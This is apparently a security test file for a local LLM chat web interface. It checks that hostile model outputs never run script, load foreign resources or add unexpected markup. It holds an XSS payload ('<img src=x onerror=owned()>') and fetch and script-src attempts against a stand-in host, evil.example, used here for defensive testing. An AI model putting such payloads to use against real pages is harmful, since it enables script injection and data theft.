// What a model writes is hostile input: nothing of it runs, loads, leaves the page, or becomes an element that the page does not make itself.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { Node } from '../clients/support/node.js';
import { ask, assertNoProblems, launch, newChat, openPage, pageAddress, question, send } from './support/browser.js';
import { hostileOutputs } from './support/hostile.js';

// The elements and attributes that an answer may have.
const allowed = {
  elements: ['a', 'bdi', 'blockquote', 'br', 'button', 'code', 'del', 'div', 'em', 'figcaption', 'figure', 'h3', 'h4', 'h5', 'h6', 'hr', 'li', 'ol', 'p', 'path', 'pre', 'span', 'strong', 'sup', 'svg', 'table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul'],
  attributes: ['aria-hidden', 'aria-label', 'class', 'd', 'dir', 'href', 'rel', 'scope', 'start', 'tabindex', 'target', 'title', 'type', 'viewBox'],
};

describe('page: hostile outputs', () => {
  let node, browser, page;
  before(async () => {
    node = await Node.start();
    browser = await launch();
    page = await openPage(browser, node);
    await page.evaluate(() => {
      window.owned = () => (window.wasOwned = true);
    });
  });
  after(async () => {
    await browser?.close();
    await node?.stop();
  });

  // What an answer contains that it must not contain.
  const foreign = root =>
    root.evaluate((element, { elements, attributes }) => {
      const found = [];
      for (const child of element.querySelectorAll('*')) {
        if (!elements.includes(child.localName)) found.push(child.localName);
        for (const { name, value } of child.attributes) {
          if (!attributes.includes(name)) found.push(`${child.localName} ${name}`);
          if (name === 'href' && !/^(https?|mailto):/.test(value)) found.push(`href ${value}`);
          if (name === 'href' && !/noopener/.test(child.rel)) found.push(`${value} without noopener`);
        }
      }
      return found;
    }, allowed);

  it('has at least 200 outputs', () => assert.ok(new Set(hostileOutputs).size >= 200, `${new Set(hostileOutputs).size}`));

  it('runs, loads and shows none of them as markup, as they are kept', { timeout: 240_000 }, async () => {
    const messages = hostileOutputs.flatMap((content, index) => [
      { id: `q${index}`, parent: index === 0 ? null : `a${index - 1}`, role: 'user', content: `${index}`, created: 2 * index },
      { id: `a${index}`, parent: `q${index}`, role: 'assistant', content, created: 2 * index + 1, state: 'done', reasoning: content, model: content.slice(0, 50) },
    ]);
    const conversation = { title: '<img src=x onerror=owned()>', created: 1, updated: 2, leaf: messages.at(-1).id, settings: {} };
    const file = { name: 'chats.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify({ format: 'rkllama-conversations', version: 1, conversations: [{ conversation, messages }] })) };
    await page.getByRole('complementary').locator('input[type=file]').setInputFiles(file);
    await page.getByRole('complementary').getByRole('link', { name: /img src/ }).click();
    await page.getByRole('article').first().waitFor();
    for (const more = page.getByRole('button', { name: /earlier messages/ }); (await more.count()) > 0; ) await more.click();
    await page.getByRole('article').nth(messages.length - 1).waitFor();
    for (const thoughts of await page.locator('details.thoughts').all()) await thoughts.evaluate(details => (details.open = true));

    for (const markdown of await page.locator('.markdown').all()) assert.deepEqual(await foreign(markdown), [], await markdown.innerText());
    await checkPage();
  });

  it('runs none of them while they stream', { timeout: 240_000 }, async () => {
    // The simulator sends these back token by token. It cannot echo control characters and tokens of its own.
    const sent = hostileOutputs.filter((output, index) => output.length < 400 && !/[\u0000-\u0008\ud800-\udfff]|<\|/.test(output) && index % 3 === 0);
    for (const [index, output] of sent.entries()) {
      if (index % 8 === 0) await newChat(page);
      const answer = await ask(page, `!echo ${output}`);
      assert.deepEqual(await foreign(answer.locator('.markdown').first().or(answer.locator('.notice')).first()), [], output);
    }
    await checkPage();
  });

  it('opens a link in another tab, without access to the page', async () => {
    await newChat(page);
    const answer = await ask(page, '!echo [elsewhere](http://evil.example:1/)');

    const link = answer.getByRole('link', { name: 'elsewhere' });

    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer nofollow');
    assert.equal(await link.getAttribute('target'), '_blank');
    assert.equal(await link.getAttribute('title'), 'http://evil.example:1/');
  });

  it('has a policy that stops scripts, HTML strings and foreign addresses, if the page should have a hole', async () => {
    const results = await page.evaluate(async () => {
      // Afterwards the code no longer runs in the call of the developer tools, which may do more.
      await new Promise(resolve => setTimeout(resolve));
      const attempt = async action => {
        try {
          await action();
          return 'allowed';
        } catch {
          return 'refused';
        }
      };
      return {
        html: await attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
        evaluated: await attempt(() => eval('1')),
        made: await attempt(() => new Function('return 1')()),
        fetched: await attempt(() => fetch('http://evil.example/')),
        script: await attempt(() => (document.createElement('script').src = 'http://evil.example/x.js')),
      };
    });

    assert.deepEqual(results, { html: 'refused', evaluated: 'refused', made: 'refused', fetched: 'refused', script: 'refused' });
  });

  it('is not readable under a foreign name, and not in a frame', async () => {
    const foreignPage = await browser.newPage();
    const rebound = await foreignPage.goto(pageAddress(node, 'evil.example'));
    assert.equal(rebound.status(), 403);
    for (const path of ['node/status', 'node/requests', 'models', 'metrics', 'npu']) {
      const { status } = await foreignPage.evaluate(async target => ({ status: (await fetch(target)).status }), `/${path}`);
      assert.equal(status, 403, path);
    }
    await foreignPage.close();
    const { headers } = await page.request.get(node.url + '/ui/').then(async response => ({ headers: response.headers() }));
    assert.match(headers['content-security-policy'], /frame-ancestors 'none'/);
  });

  // No script ran, nothing was requested from elsewhere, and the page still works.
  async function checkPage() {
    assert.equal(await page.evaluate(() => window.wasOwned), undefined);
    // The tokens of a conversation that is longer than the context cannot be counted: 400.
    assertNoProblems(page, /console: Failed to load resource.*400/);
    assert.equal(await page.locator('body > *').count(), 2);
    await question(page).waitFor();
  }
});
